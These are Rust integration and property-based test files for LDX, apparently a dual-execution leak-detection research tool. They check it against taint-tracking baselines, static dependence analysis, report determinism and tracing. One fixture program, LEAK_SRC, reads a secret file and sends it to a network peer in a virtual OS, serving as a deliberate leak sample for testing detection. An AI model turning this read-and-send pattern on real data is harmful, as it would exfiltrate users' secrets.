//! Cross-tool structural invariants over the whole corpus (DESIGN.md I6
//! and the paper's Table 2/3 relationships):
//!
//! * LIBDFT's tainted sinks ⊆ TaintGrind's, per workload (unmodeled
//!   library calls only ever *lose* taint);
//! * wherever LDX reports on the leaking mutation, TightLip reports too
//!   (TightLip over-approximates: it cannot tolerate what LDX tolerates,
//!   so LDX ⊆ TightLip on verdicts);
//! * the taint tools never report on a *sink-free* flow LDX rejects as
//!   non-causal **and** data-independent (sanity floor: an untainted,
//!   unchanged sink is reported by nobody).

use ldx_baselines::{mutate_config, tightlip_execute};
use ldx_dualex::dual_execute;
use ldx_runtime::ExecConfig;
use ldx_taint::{taint_execute, TaintPolicy};
use ldx_workloads::{corpus, Suite};

#[test]
fn libdft_is_a_subset_of_taintgrind_everywhere() {
    for w in corpus() {
        let program = w.program_uninstrumented();
        let attack_world = mutate_config(&w.world, &w.sources);
        for world in [&w.world, &attack_world] {
            let tg = taint_execute(
                &program,
                world,
                &w.sources,
                &w.sinks,
                TaintPolicy::TaintGrindLike,
            );
            let dft = taint_execute(
                &program,
                world,
                &w.sources,
                &w.sinks,
                TaintPolicy::LibDftLike,
            );
            assert!(
                dft.tainted_sink_instances <= tg.tainted_sink_instances,
                "`{}`: LIBDFT {} > TAINTGRIND {}",
                w.name,
                dft.tainted_sink_instances,
                tg.tainted_sink_instances
            );
            assert!(
                dft.tainted_sites.is_subset(&tg.tainted_sites),
                "`{}`: LIBDFT sites not a subset",
                w.name
            );
            // Totals agree: the policies see the same execution.
            assert_eq!(
                dft.total_sink_instances, tg.total_sink_instances,
                "`{}`: policies disagree about the sink count",
                w.name
            );
        }
    }
}

#[test]
fn data_and_control_taint_supersets_data_only() {
    for w in corpus() {
        let program = w.program_uninstrumented();
        let attack_world = mutate_config(&w.world, &w.sources);
        let tg = taint_execute(
            &program,
            &attack_world,
            &w.sources,
            &w.sinks,
            TaintPolicy::TaintGrindLike,
        );
        let ctl = taint_execute(
            &program,
            &attack_world,
            &w.sources,
            &w.sinks,
            TaintPolicy::DataAndControl,
        );
        assert!(
            tg.tainted_sink_instances <= ctl.tainted_sink_instances,
            "`{}`: control tracking must only add taint ({} > {})",
            w.name,
            tg.tainted_sink_instances,
            ctl.tainted_sink_instances
        );
    }
}

#[test]
fn tightlip_reports_whenever_ldx_does() {
    // Deterministic suites only: TightLip's independent doppelganger
    // inherits the concurrent programs' schedule nondeterminism.
    for w in corpus() {
        if w.suite == Suite::Concurrent {
            continue;
        }
        let ldx_report = dual_execute(w.program(), &w.world, &w.dual_spec());
        if !ldx_report.leaked() {
            continue;
        }
        let tl = tightlip_execute(
            w.program(),
            &w.world,
            &w.sources,
            &w.sinks,
            ExecConfig::default(),
        );
        assert!(
            tl.reported,
            "`{}`: LDX reports but TightLip does not ({:?})",
            w.name, tl.reason
        );
    }
}
