//! Integration tests for divergence forensics: the `ldx explain`
//! provenance reports over the workload corpus.
//!
//! Two families of properties:
//!
//! * **Determinism.** A report is byte-identical across repeated runs of
//!   the same analysis, and across `--no-prune` — the flight recorder and
//!   the chain builder may only serialize schedule-independent facts.
//! * **Truthfulness.** Every chain is grounded in both engines: its sink
//!   is a causality record the dynamic report actually contains, and its
//!   static path walks sites the `ldx-sdep` PDG actually holds, with a
//!   reachability witness between its endpoints.

use ldx::sdep::StaticAnalysis;
use ldx::{Analysis, ExplainReport};
use ldx_ir::IrProgram;
use ldx_workloads::{corpus, Workload};

fn workload_analysis(w: &Workload) -> Analysis {
    let mut analysis = Analysis::for_source(&w.source)
        .expect("corpus workload compiles")
        .world(w.world.clone())
        .sinks(w.sinks.clone());
    for s in &w.sources {
        analysis = analysis.source(s.clone());
    }
    analysis
}

fn explain(w: &Workload) -> ExplainReport {
    workload_analysis(w).explain(w.name)
}

/// Maps a chain step's function name back to the program's `FuncId`.
fn func_id(program: &IrProgram, name: &str) -> ldx_ir::FuncId {
    program
        .func_id(name)
        .unwrap_or_else(|| panic!("chain names unknown function {name}"))
}

#[test]
fn explain_is_byte_identical_across_runs_and_pruning() {
    // Concurrent-suite workloads carry Lx-level races inside a single
    // dual execution (Table 4's subject); like the batch-determinism
    // equality checks, byte-identity is only promised outside that suite.
    let deterministic = corpus()
        .into_iter()
        .filter(|w| w.expect_leak && w.suite != ldx_workloads::Suite::Concurrent);
    for w in deterministic.collect::<Vec<_>>().iter() {
        let a = explain(w).to_json();
        let b = explain(w).to_json();
        assert_eq!(a, b, "workload `{}`: explain not reproducible", w.name);
        let unpruned = workload_analysis(w).no_prune().explain(w.name).to_json();
        assert_eq!(
            a, unpruned,
            "workload `{}`: explain depends on the static pre-filter",
            w.name
        );
    }
}

/// Every chain's sink is a record the dynamic causality report contains:
/// same source, same function, same site, same syscall, same kind of
/// divergence. The chain is a *view* of the dual execution, not a second
/// opinion.
#[test]
fn chain_sinks_appear_in_the_dynamic_causality_report() {
    for w in &corpus() {
        let analysis = workload_analysis(w);
        let report = analysis.explain(w.name);
        if w.expect_leak {
            assert!(report.any_causal(), "workload `{}` must leak", w.name);
            assert!(!report.chains.is_empty(), "workload `{}`: no chain", w.name);
        }
        let attrs = analysis.attribute_sources();
        let program = w.program();
        for chain in &report.chains {
            let attr = attrs
                .iter()
                .find(|a| a.index == chain.source_index)
                .expect("chain names a probed source");
            assert!(
                attr.causal,
                "workload `{}`: chain for non-causal source",
                w.name
            );
            let grounded = attr.report.causality.iter().any(|r| {
                program.func(r.func).name == chain.sink.func
                    && r.site.0 == chain.sink.site
                    && r.sys.to_string() == chain.sink.sys
            });
            assert!(
                grounded,
                "workload `{}`: chain sink {}:{} ({}) not in the dynamic report",
                w.name, chain.sink.func, chain.sink.site, chain.sink.sys
            );
        }
    }
}

/// Every chain's static path lives inside the freshly-computed PDG: each
/// step is a known syscall site, and the analysis can witness
/// reachability between the path's endpoints.
#[test]
fn chain_static_paths_are_inside_the_pdg() {
    for w in &corpus() {
        let program = w.program();
        let sdep = StaticAnalysis::analyze(&program);
        for chain in &explain(w).chains {
            for step in &chain.static_path {
                let site = (func_id(&program, &step.func), ldx_ir::SiteId(step.site));
                assert!(
                    sdep.sites().contains_key(&site),
                    "workload `{}`: static step {}:{} is not a PDG site",
                    w.name,
                    step.func,
                    step.site
                );
            }
            if let (Some(first), Some(last)) = (chain.static_path.first(), chain.static_path.last())
            {
                let from = (func_id(&program, &first.func), ldx_ir::SiteId(first.site));
                let to = (func_id(&program, &last.func), ldx_ir::SiteId(last.site));
                assert!(
                    from == to || sdep.path_witness(from, to).is_some(),
                    "workload `{}`: no PDG witness from {}:{} to {}:{}",
                    w.name,
                    first.func,
                    first.site,
                    last.func,
                    last.site
                );
            }
        }
    }
}

/// A chain must always carry the recorder-observed mutation and a named
/// sink syscall; the corpus has no workload whose leak bypasses either.
#[test]
fn corpus_chains_are_complete() {
    for w in corpus().iter().filter(|w| w.expect_leak) {
        let report = explain(w);
        assert!(report.master_events + report.slave_events > 0, "{}", w.name);
        for chain in &report.chains {
            assert!(
                chain.mutation.is_some(),
                "workload `{}`: chain without the recorded mutation",
                w.name
            );
            assert!(!chain.sink.sys.is_empty(), "{}", w.name);
        }
    }
}
