//! Paper Figures 2–5: the employee example and the nested-loop example,
//! checked at the level of the alignment *trace* (who executed, who
//! copied, who decoupled, where the executions re-aligned).

use ldx_dualex::{dual_execute, Role, TraceAction};
use ldx_workloads::{figure2_employee, figure4_loops, FigureCase};
use std::sync::Arc;

fn run(case: &FigureCase) -> ldx_dualex::DualReport {
    let program = Arc::new(
        ldx_instrument::instrument(&ldx_ir::lower(
            &ldx_lang::compile(&case.source).expect("figure compiles"),
        ))
        .into_program(),
    );
    dual_execute(program, &case.world, &case.spec)
}

#[test]
fn figure3_employee_trace_shape() {
    let case = figure2_employee();
    let report = run(&case);
    assert!(report.master.is_ok() && report.slave.is_ok());
    assert!(report.leaked(), "the title leaks through the raise");

    // The slave must have copied the prefix (the shared reads), decoupled
    // through the divergent branch, and flagged the sink difference.
    let slave_actions: Vec<&TraceAction> = report
        .trace
        .iter()
        .filter(|e| e.role == Role::Slave)
        .map(|e| &e.action)
        .collect();
    assert!(
        slave_actions.contains(&&TraceAction::Copied),
        "shared prefix"
    );
    assert!(
        slave_actions.contains(&&TraceAction::Mutated),
        "the title read is perturbed"
    );
    assert!(
        slave_actions.contains(&&TraceAction::Decoupled),
        "the manager branch runs decoupled"
    );
    assert!(
        slave_actions.contains(&&TraceAction::SinkDiff),
        "the send re-aligns and differs"
    );

    // Re-alignment: the send is a *matched-key* comparison, not a
    // missing-sink report.
    assert!(
        report
            .causality
            .iter()
            .any(|c| matches!(c.kind, ldx_dualex::CausalityKind::ArgDiff { .. })),
        "paper: the sinks align (same counter) and their payloads differ: {:?}",
        report.causality
    );
    // The divergent-branch syscalls were tolerated, not reported.
    assert!(report.decoupled > 0);
}

#[test]
fn figure5_loop_trace_shape() {
    let case = figure4_loops();
    let report = run(&case);
    assert!(report.master.is_ok(), "master: {:?}", report.master);
    assert!(report.slave.is_ok(), "slave: {:?}", report.slave);
    assert!(report.leaked(), "n/m swap changes the totals");

    // Iteration barriers appear in the trace for both roles.
    let barrier_roles: Vec<Role> = report
        .trace
        .iter()
        .filter(|e| e.action == TraceAction::Barrier)
        .map(|e| e.role)
        .collect();
    assert!(barrier_roles.contains(&Role::Master));
    assert!(barrier_roles.contains(&Role::Slave));

    // The executions took different loop shapes (master 1x2, slave 2x1):
    // some in-loop syscalls have no alignment.
    assert!(
        report.syscall_diffs + report.decoupled > 0,
        "loop-shape divergence must appear as syscall differences"
    );

    // The final send must align (ArgDiff, not a missing sink) — the
    // counter re-synchronizes beyond the loops, paper Fig. 5's last row.
    assert!(report
        .causality
        .iter()
        .any(|c| matches!(c.kind, ldx_dualex::CausalityKind::ArgDiff { .. })));
}

#[test]
fn figure5_identity_loops_fully_aligned() {
    // Same loop program, identity mutation: every iteration aligns, no
    // divergence at all.
    let case = figure4_loops();
    let mut spec = case.spec.clone();
    for s in &mut spec.sources {
        s.mutation = ldx_dualex::Mutation::Identity;
    }
    let program = Arc::new(
        ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(&case.source).unwrap()))
            .into_program(),
    );
    let report = dual_execute(program, &case.world, &spec);
    assert!(!report.leaked(), "{:?}", report.causality);
    assert_eq!(report.syscall_diffs, 0);
    assert_eq!(report.decoupled, 0);
    let master_sys = report.master.as_ref().unwrap().stats.syscalls;
    assert_eq!(report.shared, master_sys, "every outcome shared");
}
