//! Soundness of the static dependence analysis (`ldx-sdep`) against the
//! dynamic engine, over generated programs and the workload corpus.
//!
//! Two properties:
//!
//! * **Pruning is invisible.** `attribute_sources` with the static
//!   pre-filter on must produce byte-identical verdicts (causal flag and
//!   causality records) to a full run with `--no-prune` — a pruned pair is
//!   a pair the dual execution would have found inert anyway.
//! * **The oracle holds.** Every causality record dual execution reports
//!   sits inside the static reachability map (`check_report`). The static
//!   analysis over-approximates; a record outside the map is a bug in
//!   either the engine or the analysis.

use ldx::sdep::StaticAnalysis;
use ldx::{Analysis, SinkSpec, SourceAttribution, SourceSpec};
use ldx_dualex::{dual_execute, DualSpec, Mutation, SourceMatcher};
use ldx_runtime::ExecConfig;
use ldx_vos::VosConfig;
use ldx_workloads::{corpus, random_program_source, GeneratorConfig};
use proptest::prelude::*;

fn world(value: &str) -> VosConfig {
    VosConfig::new()
        .file("/gen/input", value.to_string())
        .dir("/gen")
}

/// An analysis over a generated program with the real source plus two
/// decoys pruning can prove inert: a file nothing reads and the
/// write-only output file.
fn generated_analysis(seed: u64, input: i64) -> Analysis {
    let src = random_program_source(seed, &GeneratorConfig::default());
    Analysis::for_source(&src)
        .expect("generated programs compile")
        .world(world(&input.to_string()).file("/gen/absent", "decoy"))
        .source(SourceSpec::file("/gen/input"))
        .source(SourceSpec::file("/gen/absent"))
        .source(SourceSpec::file("/gen/out"))
        .sinks(SinkSpec::FileOut)
        .exec_config(ExecConfig {
            max_steps: 5_000_000,
            ..ExecConfig::default()
        })
}

/// The observable bytes of an attribution: everything except the
/// placeholder report internals of pruned entries.
fn verdict_bytes(attrs: &[SourceAttribution]) -> String {
    attrs
        .iter()
        .map(|a| {
            format!(
                "#{} {:?} causal={} records={:?}\n",
                a.index, a.source.matcher, a.causal, a.report.causality
            )
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 16,
        .. ProptestConfig::default()
    })]

    /// Pruned and unpruned attribution agree byte-for-byte on verdicts,
    /// and the decoy sources actually exercise the pruner.
    #[test]
    fn pruned_attribution_is_byte_identical(seed in 0u64..2000, input in 0i64..1000) {
        let pruned = generated_analysis(seed, input).attribute_sources();
        let full = generated_analysis(seed, input).no_prune().attribute_sources();
        prop_assert!(full.iter().all(|a| !a.pruned));
        prop_assert!(
            pruned.iter().any(|a| a.pruned),
            "seed {seed}: the decoy sources must be statically pruned"
        );
        prop_assert_eq!(verdict_bytes(&pruned), verdict_bytes(&full), "seed {}", seed);
    }

    /// Every dynamically reported causal pair is inside the static map.
    #[test]
    fn dynamic_records_are_inside_the_static_map(seed in 0u64..2000, input in 0i64..1000) {
        let src = random_program_source(seed, &GeneratorConfig::default());
        let program = std::sync::Arc::new(
            ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(&src).unwrap()))
                .into_program(),
        );
        let sdep = StaticAnalysis::analyze(&program);
        let spec = DualSpec {
            sources: vec![SourceSpec {
                matcher: SourceMatcher::FileRead("/gen/input".into()),
                mutation: Mutation::OffByOne,
            }],
            sinks: SinkSpec::FileOut,
            trace: false,
            record: false,
            enforcement: false,
            exec: ExecConfig {
                max_steps: 5_000_000,
                ..ExecConfig::default()
            },
        };
        let report = dual_execute(std::sync::Arc::clone(&program), &world(&input.to_string()), &spec);
        prop_assert!(
            sdep.check_report(&spec.sources, &report).is_ok(),
            "seed {seed}: {:?}",
            sdep.check_report(&spec.sources, &report).unwrap_err()
        );
    }
}

/// The oracle holds across the whole 28-program corpus, for both the
/// leaking and the benign experiment of every workload (this is the
/// CI soundness-oracle step).
#[test]
fn oracle_holds_over_the_workload_corpus() {
    for w in corpus() {
        let program = w.program();
        let sdep = StaticAnalysis::analyze(&program);
        let mut specs = vec![w.dual_spec()];
        specs.extend(w.benign_spec());
        for spec in specs {
            let report = dual_execute(std::sync::Arc::clone(&program), &w.world, &spec);
            assert!(
                sdep.check_report(&spec.sources, &report).is_ok(),
                "workload `{}`: {}",
                w.name,
                sdep.check_report(&spec.sources, &report).unwrap_err()
            );
        }
    }
}

/// The `ldx explain` source verdicts restate the static analysis
/// faithfully: a source the report marks `statically_independent` is
/// exactly one `may_cause` rejects against the workload's sinks — and
/// such a source is never causal (the soundness oracle surfaced through
/// the forensics layer).
#[test]
fn explain_static_verdicts_agree_with_may_cause() {
    for w in corpus() {
        let sdep = StaticAnalysis::analyze(&w.program());
        let mut analysis = Analysis::for_source(&w.source)
            .expect("corpus workload compiles")
            .world(w.world.clone())
            .sinks(w.sinks.clone());
        for s in &w.sources {
            analysis = analysis.source(s.clone());
        }
        let report = analysis.explain(w.name);
        for summary in &report.sources {
            let spec = &w.sources[summary.index];
            assert_eq!(
                summary.statically_independent,
                !sdep.may_cause(spec, &w.sinks),
                "workload `{}`, source {:?}",
                w.name,
                spec.matcher
            );
            assert!(
                !(summary.statically_independent && summary.causal),
                "workload `{}`: statically independent source {:?} marked causal",
                w.name,
                spec.matcher
            );
        }
    }
}

/// The pruner never suppresses a true causality: for every workload that
/// expects a leak, `may_cause` keeps each declared source alive. (The
/// converse — pruned pairs really are inert — is the byte-identical
/// property above.)
#[test]
fn pruner_keeps_every_expected_leak_alive() {
    for w in corpus() {
        if !w.expect_leak {
            continue;
        }
        let program = w.program();
        let sdep = StaticAnalysis::analyze(&program);
        for s in &w.sources {
            assert!(
                sdep.may_cause(s, &w.sinks),
                "workload `{}`: pruning would skip declared source {:?}",
                w.name,
                s.matcher
            );
        }
    }
}
