//! Dynamic counter invariants over the whole corpus (paper Table 1's
//! "Dyn. Cnt." observation: runtime counter values stay within the static
//! bounds, and the average sits well below the maximum).

use ldx_runtime::{run_program, ExecConfig, NativeHooks};
use ldx_vos::Vos;
use std::sync::Arc;

#[test]
fn runtime_counters_respect_static_bounds() {
    for w in ldx_workloads::corpus() {
        let instrumented = w.instrumented();
        let static_max = (0..instrumented.program().functions.len())
            .map(|i| instrumented.fcnt(ldx_ir::FuncId(i as u32)))
            .max()
            .unwrap_or(0);
        let program = Arc::new(instrumented.into_program());
        let vos = Arc::new(Vos::new(&w.world));
        let hooks = Arc::new(NativeHooks::new(vos));
        let out = run_program(program, hooks, ExecConfig::default())
            .unwrap_or_else(|e| panic!("`{}` traps: {e}", w.name));
        assert!(
            out.stats.cnt_max <= static_max,
            "`{}`: dynamic counter {} exceeds static bound {}",
            w.name,
            out.stats.cnt_max,
            static_max
        );
        assert!(
            out.stats.cnt_avg() <= out.stats.cnt_max as f64,
            "`{}`: average above maximum",
            w.name
        );
        assert!(
            out.stats.max_counter_depth >= 1,
            "`{}`: counter stack must exist",
            w.name
        );
    }
}

#[test]
fn instrumentation_reports_are_internally_consistent() {
    for w in ldx_workloads::corpus() {
        let instrumented = w.instrumented();
        let report = instrumented.report();
        for f in &report.functions {
            assert!(
                f.compensation_instrs <= f.added_instrs,
                "`{}::{}`: more compensations than added instructions",
                w.name,
                f.name
            );
            assert!(
                f.output_syscall_sites <= f.syscall_sites,
                "`{}::{}`: sinks exceed syscalls",
                w.name,
                f.name
            );
        }
        // max_cnt is FCNT of main, which must match the per-function row.
        let main_row = report
            .functions
            .iter()
            .find(|f| f.name == "main")
            .expect("main exists");
        assert_eq!(report.max_cnt, main_row.fcnt, "`{}`", w.name);
        // The report's Display renders every function.
        let text = report.to_string();
        for f in &report.functions {
            assert!(
                text.contains(&f.name),
                "`{}`: display misses {}",
                w.name,
                f.name
            );
        }
    }
}

#[test]
fn instrumented_ir_dump_renders_loop_markers() {
    let w = ldx_workloads::by_name("minzip").expect("exists");
    let program = w.program();
    let text = ldx_ir::display::program_to_string(&program);
    assert!(text.contains("loop_enter"), "dump: {text}");
    assert!(text.contains("loop_backedge"));
    assert!(text.contains("loop_exit"));
    assert!(text.contains("cnt +="));
}
