//! End-to-end validation of the 28-program corpus: every workload must run
//! natively without trapping, report exactly the causality its spec
//! promises under the leaking mutation, stay silent under the benign
//! mutation, and stay silent under the identity mutation (invariant I5).

use ldx_dualex::{dual_execute, DualSpec, Mutation, SourceSpec};
use ldx_runtime::{run_program, ExecConfig, NativeHooks};
use ldx_vos::Vos;
use ldx_workloads::{corpus, Suite, Workload};
use std::sync::Arc;

fn native_runs_clean(w: &Workload) {
    let program = w.program();
    let vos = Arc::new(Vos::new(&w.world));
    let hooks = Arc::new(NativeHooks::new(Arc::clone(&vos)));
    let out = run_program(program, hooks, ExecConfig::default())
        .unwrap_or_else(|e| panic!("workload `{}` traps natively: {e}", w.name));
    assert_eq!(out.exit_code, 0, "workload `{}` exits nonzero", w.name);
    assert!(
        out.stats.syscalls > 0,
        "workload `{}` performs no syscalls",
        w.name
    );
}

#[test]
fn every_workload_runs_natively() {
    for w in corpus() {
        native_runs_clean(&w);
    }
    native_runs_clean(&ldx_workloads::preprocessor_case_study());
    native_runs_clean(&ldx_workloads::showip_case_study());
}

#[test]
fn identity_mutation_never_reports() {
    for w in corpus() {
        // Concurrent workloads have genuinely racy sink payloads; the
        // paper's Table 4 documents that variance separately. Identity
        // quiescence is only promised for deterministic programs.
        if w.suite == Suite::Concurrent {
            continue;
        }
        let spec = DualSpec {
            sources: w
                .sources
                .iter()
                .map(|s| SourceSpec {
                    matcher: s.matcher.clone(),
                    mutation: Mutation::Identity,
                })
                .collect(),
            sinks: w.sinks.clone(),
            trace: false,
            record: false,
            enforcement: false,
            exec: ExecConfig::default(),
        };
        let report = dual_execute(w.program(), &w.world, &spec);
        assert!(
            report.master.is_ok(),
            "`{}` master: {:?}",
            w.name,
            report.master
        );
        assert!(
            report.slave.is_ok(),
            "`{}` slave: {:?}",
            w.name,
            report.slave
        );
        assert!(
            !report.leaked(),
            "`{}` reports under identity mutation: {:?}",
            w.name,
            report.causality
        );
        assert_eq!(
            report.syscall_diffs, 0,
            "`{}` has syscall diffs under identity mutation",
            w.name
        );
    }
}

#[test]
fn leaking_mutations_are_detected() {
    for w in corpus() {
        let report = dual_execute(w.program(), &w.world, &w.dual_spec());
        assert!(
            report.master.is_ok(),
            "`{}` master: {:?}",
            w.name,
            report.master
        );
        assert!(
            report.slave.is_ok(),
            "`{}` slave: {:?}",
            w.name,
            report.slave
        );
        assert_eq!(
            report.leaked(),
            w.expect_leak,
            "`{}`: expected leak={}, got records {:?} (diffs {}, shared {}, decoupled {})",
            w.name,
            w.expect_leak,
            report.causality,
            report.syscall_diffs,
            report.shared,
            report.decoupled,
        );
    }
}

#[test]
fn benign_mutations_stay_quiet_with_syscall_differences_tolerated() {
    for w in corpus() {
        let Some(spec) = w.benign_spec() else {
            continue;
        };
        let report = dual_execute(w.program(), &w.world, &spec);
        assert!(
            report.master.is_ok() && report.slave.is_ok(),
            "`{}` failed: {:?} / {:?}",
            w.name,
            report.master,
            report.slave
        );
        assert!(
            !report.leaked(),
            "`{}` benign mutation falsely reported: {:?}",
            w.name,
            report.causality
        );
    }
}

#[test]
fn case_studies_detect_their_leaks() {
    for w in [
        ldx_workloads::preprocessor_case_study(),
        ldx_workloads::showip_case_study(),
    ] {
        let report = dual_execute(w.program(), &w.world, &w.dual_spec());
        assert!(
            report.leaked(),
            "case study `{}` must report: {:?}",
            w.name,
            report.causality
        );
    }
}
