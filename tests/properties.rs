//! Property-based tests over randomly generated programs (DESIGN.md
//! invariants I1/I2/I5).
//!
//! The generator (`ldx_workloads::random_program_source`) produces
//! structured programs with branches, syscall-bearing loops, and helper
//! calls; the properties must hold for *every* shape:
//!
//! * **static counter consistency** — after instrumentation, the counter
//!   value at every block is path-independent and returns end at `FCNT`;
//! * **identity quiescence** — dual execution with an identity mutation
//!   shares every outcome and reports nothing;
//! * **alignment soundness under mutation** — a real mutation may cause
//!   divergence but never deadlocks, never traps the engine, and the
//!   executions always terminate.

use ldx_dualex::{dual_execute, DualSpec, Mutation, SinkSpec, SourceSpec};
use ldx_runtime::ExecConfig;
use ldx_vos::VosConfig;
use ldx_workloads::{random_program_source, GeneratorConfig};
use proptest::prelude::*;
use std::sync::Arc;

fn world(value: &str) -> VosConfig {
    VosConfig::new()
        .file("/gen/input", value.to_string())
        .dir("/gen")
}

fn build(seed: u64) -> Arc<ldx_ir::IrProgram> {
    let src = random_program_source(seed, &GeneratorConfig::default());
    let resolved = ldx_lang::compile(&src).expect("generated programs compile");
    Arc::new(ldx_instrument::instrument(&ldx_ir::lower(&resolved)).into_program())
}

fn spec(mutation: Mutation) -> DualSpec {
    DualSpec {
        sources: vec![SourceSpec {
            matcher: ldx_dualex::SourceMatcher::FileRead("/gen/input".into()),
            mutation,
        }],
        sinks: SinkSpec::FileOut,
        trace: false,
        record: false,
        enforcement: false,
        exec: ExecConfig {
            max_steps: 5_000_000,
            ..ExecConfig::default()
        },
    }
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 48,
        .. ProptestConfig::default()
    })]

    #[test]
    fn static_counter_consistency(seed in 0u64..5000) {
        let src = random_program_source(seed, &GeneratorConfig::default());
        let resolved = ldx_lang::compile(&src).expect("generated programs compile");
        let ip = ldx_instrument::instrument(&ldx_ir::lower(&resolved));
        ldx_instrument::check_counter_consistency(&ip)
            .unwrap_or_else(|e| panic!("seed {seed}: {e}\n{src}"));
    }

    #[test]
    fn identity_mutation_is_quiet(seed in 0u64..2000, input in 0i64..1000) {
        let program = build(seed);
        let report = dual_execute(program, &world(&input.to_string()), &spec(Mutation::Identity));
        prop_assert!(report.master.is_ok(), "seed {seed}: {:?}", report.master);
        prop_assert!(report.slave.is_ok(), "seed {seed}: {:?}", report.slave);
        prop_assert!(!report.leaked(), "seed {seed}: {:?}", report.causality);
        prop_assert_eq!(report.syscall_diffs, 0);
        prop_assert_eq!(report.decoupled, 0);
    }

    #[test]
    fn mutation_never_wedges_the_engine(seed in 0u64..2000, input in 0i64..1000) {
        let program = build(seed);
        let report = dual_execute(
            program,
            &world(&input.to_string()),
            &spec(Mutation::OffByOne),
        );
        // Both executions terminate normally whatever paths the mutation
        // flips; divergence shows up as tolerated syscall differences.
        prop_assert!(report.master.is_ok(), "seed {seed}: {:?}", report.master);
        prop_assert!(report.slave.is_ok(), "seed {seed}: {:?}", report.slave);
    }
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 12,
        .. ProptestConfig::default()
    })]

    /// Dual execution of a deterministic (single-threaded) program is
    /// itself deterministic: two runs with the same spec agree on the
    /// verdict, the tainted-sink count, and the sharing statistics.
    #[test]
    fn dual_execution_is_deterministic(seed in 0u64..600, input in 0i64..400) {
        let program = build(seed);
        let w = world(&input.to_string());
        let s = spec(Mutation::OffByOne);
        let a = dual_execute(Arc::clone(&program), &w, &s);
        let b = dual_execute(Arc::clone(&program), &w, &s);
        prop_assert_eq!(a.leaked(), b.leaked());
        prop_assert_eq!(a.tainted_sinks(), b.tainted_sinks());
        prop_assert_eq!(a.shared, b.shared);
        prop_assert_eq!(a.syscall_diffs, b.syscall_diffs);
        prop_assert_eq!(a.decoupled, b.decoupled);
    }

    /// Enforcement mode changes timing, never verdicts.
    #[test]
    fn enforcement_mode_preserves_verdicts(seed in 0u64..400, input in 0i64..300) {
        let program = build(seed);
        let w = world(&input.to_string());
        let detection = spec(Mutation::OffByOne);
        let mut enforcement = detection.clone();
        enforcement.enforcement = true;
        let d = dual_execute(Arc::clone(&program), &w, &detection);
        let e = dual_execute(Arc::clone(&program), &w, &enforcement);
        prop_assert_eq!(d.leaked(), e.leaked(), "seed {}", seed);
        prop_assert_eq!(d.tainted_sinks(), e.tainted_sinks(), "seed {}", seed);
    }

    /// The mutation's effect must be *monotone in detection*: if the
    /// mutated input produces exactly the same final output file as the
    /// original (checked natively), LDX must not report; if the outputs
    /// differ, it must report.
    #[test]
    fn detection_matches_native_output_difference(seed in 0u64..800, input in 0i64..500) {
        use ldx_runtime::{run_program, NativeHooks};
        use ldx_vos::Vos;

        let program = build(seed);
        let original = input.to_string();
        let mutated = match Mutation::OffByOne.apply(&ldx_runtime::Value::str(original.as_str())) {
            ldx_runtime::Value::Str(s) => s,
            _ => unreachable!(),
        };

        let native_out = |input: &str| {
            let vos = Arc::new(Vos::new(&world(input)));
            let hooks = Arc::new(NativeHooks::new(Arc::clone(&vos)));
            run_program(Arc::clone(&program), hooks, ExecConfig::default()).expect("runs");
            vos.file_contents("/gen/out").unwrap_or_default()
        };
        let out_original = native_out(&original);
        let out_mutated = native_out(&mutated);

        let report = dual_execute(
            Arc::clone(&program),
            &world(&original),
            &spec(Mutation::OffByOne),
        );
        prop_assert_eq!(
            report.leaked(),
            out_original != out_mutated,
            "seed {}: outputs {:?} vs {:?}, records {:?}",
            seed, out_original, out_mutated, report.causality
        );
    }
}
