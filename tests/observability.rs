//! Integration tests for the `ldx-obs` observability layer threaded
//! through the pipeline: trace determinism, overflow truncation,
//! registry consistency under the batch engine, and the disabled path.
//!
//! Observability state is process-wide, so every test serializes on one
//! mutex and resets the state on entry and exit.

use ldx::obs;
use ldx::{Analysis, BatchEngine, BatchJob, InstrumentCache, SinkSpec, SourceSpec};
use ldx_vos::{PeerBehavior, VosConfig};
use std::sync::{Mutex, MutexGuard};

fn lock() -> MutexGuard<'static, ()> {
    static LOCK: Mutex<()> = Mutex::new(());
    LOCK.lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
}

const LEAK_SRC: &str = r#"fn main() {
    let i = 0;
    let s = read(open("/s", 0), 16);
    while (i < 3) {
        write(1, "tick");
        i = i + 1;
    }
    send(connect("out"), s);
}"#;

fn leak_analysis() -> Analysis {
    Analysis::for_source(LEAK_SRC)
        .unwrap()
        .world(
            VosConfig::new()
                .file("/s", "secret")
                .peer("out", PeerBehavior::Echo),
        )
        .source(SourceSpec::file("/s"))
        .sinks(SinkSpec::NetworkOut)
}

/// The span-tree *shape* of a trace: every (category, name) pair, sorted,
/// timestamps and durations discarded. Alignment waits are excluded —
/// whether the slave ever blocks is a scheduling accident, which is
/// exactly why only their count/duration (not their presence) is
/// meaningful telemetry.
fn shape(events: &[obs::TraceEventSnapshot]) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = events
        .iter()
        .filter(|e| e.name != "align-wait")
        .map(|e| (e.cat.to_string(), e.name.to_string()))
        .collect();
    out.sort();
    out
}

#[test]
fn trace_shape_is_deterministic_across_runs() {
    let _g = lock();
    let mut shapes = Vec::new();
    for _ in 0..2 {
        obs::reset();
        obs::enable_tracing(obs::DEFAULT_TRACE_CAPACITY);
        let report = leak_analysis().run();
        assert!(report.leaked());
        let events = obs::trace_snapshot();
        assert_eq!(obs::trace_dropped(), 0);
        shapes.push(shape(&events));
        obs::reset();
    }
    assert!(!shapes[0].is_empty());
    assert_eq!(shapes[0], shapes[1], "span tree shape must be reproducible");

    // The taxonomy promised by the acceptance criteria is present.
    let cats: Vec<&str> = shapes[0].iter().map(|(c, _)| c.as_str()).collect();
    for required in [
        "compile",
        "master",
        "slave",
        "syscall-decision",
        "barrier-wait",
    ] {
        assert!(cats.contains(&required), "missing category {required}");
    }
}

#[test]
fn overflowed_ring_keeps_newest_and_reports_truncation() {
    let _g = lock();
    obs::reset();
    obs::enable_tracing(8);
    let _ = leak_analysis().run();
    let _ = leak_analysis().run();
    assert!(obs::trace_dropped() > 0, "tiny ring must overflow");
    let events = obs::trace_snapshot();
    assert_eq!(events.len(), 8);
    let json = obs::chrome_trace_json();
    assert!(json.contains("trace-truncated"));
    obs::reset();
}

